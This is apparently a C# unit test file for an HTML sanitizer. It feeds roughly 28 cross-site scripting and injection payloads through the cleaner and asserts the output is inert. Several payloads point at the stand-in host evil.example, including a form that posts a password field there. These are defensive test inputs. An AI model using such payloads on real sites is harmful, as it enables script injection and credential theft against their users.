namespace ToolKit.Formats.Tests;

public sealed class SafeHtmlTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.example></SCRIPT>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>")]
    [InlineData("<math><mi//xlink:href='data:x,<script>alert(4)</script>'>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [InlineData("<a href='javascript:alert(1)'>x</a>")]
    [InlineData("<a href='JaVaScRiPt:alert(1)'>x</a>")]
    [InlineData("<a href=' &#1; javascript:alert(1)'>x</a>")]
    [InlineData("<a href='java&#10;script:alert(1)'>x</a>")]
    [InlineData("<a href='vbscript:x'>x</a>")]
    [InlineData("<a href='data:text/html,<script>alert(1)</script>'>x</a>")]
    [InlineData("<a href='//evil.example/javascript'>x</a>")]
    [InlineData("<img src='data:image/svg+xml,<svg onload=alert(1)>'>")]
    [InlineData("<img src='https://evil.example/pixel'>")]
    [InlineData("<style>*{background:url(//evil.example)}</style>")]
    [InlineData("<p style='position:fixed'>x</p>")]
    [InlineData("<form action=//evil.example><input name=password><button>x</button></form>")]
    [InlineData("<object data='javascript:alert(1)'></object>")]
    [InlineData("<meta http-equiv=refresh content='0;url=//evil.example'>")]
    [InlineData("<base href=//evil.example>")]
    [InlineData("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>")]
    [InlineData("<details open ontoggle=alert(1)>x</details>")]
    [InlineData("<link rel=stylesheet href=//evil.example>")]
    public void NothingThatActsComesThrough(string html)
    {
        InertHtml.Check(SafeHtml.Clean(html));
    }

    [Fact]
    public void TheDirectionOfWritingIsNotTurned() =>
        Assert.Equal("<p><a title=\"exe.pdf\">fdp.exe</a></p>", SafeHtml.Clean("<p><a title=\"exe.\u202Epdf\">\u2067fdp\u202E.exe\u202C</a></p>"));

    [Fact]
    public void WordsOfUnknownElementsStay() => Assert.Equal("<p>eins zwei</p>", SafeHtml.Clean("<p>eins <blink>zwei</blink></p>"));

    [Fact]
    public void AnIdCannotPassForOneOfThePage() => Assert.Equal("<h2 id=\"text-main\">x</h2>", SafeHtml.Clean("<h2 id=main>x</h2>"));

    [Fact]
    public void CleaningTwiceChangesNothingMoreThanIds() =>
        Assert.Equal(SafeHtml.Clean("<p>a<b>c</p>d<table><tr><td>e"), SafeHtml.Clean(SafeHtml.Clean("<p>a<b>c</p>d<table><tr><td>e")));

    [Fact]
    public void NestingWithoutEndIsCut()
    {
        var cleaned = SafeHtml.Clean(string.Concat(Enumerable.Repeat("<div>", 20_000)) + "x");

        Assert.True(cleaned.Length < 10_000);
    }
}
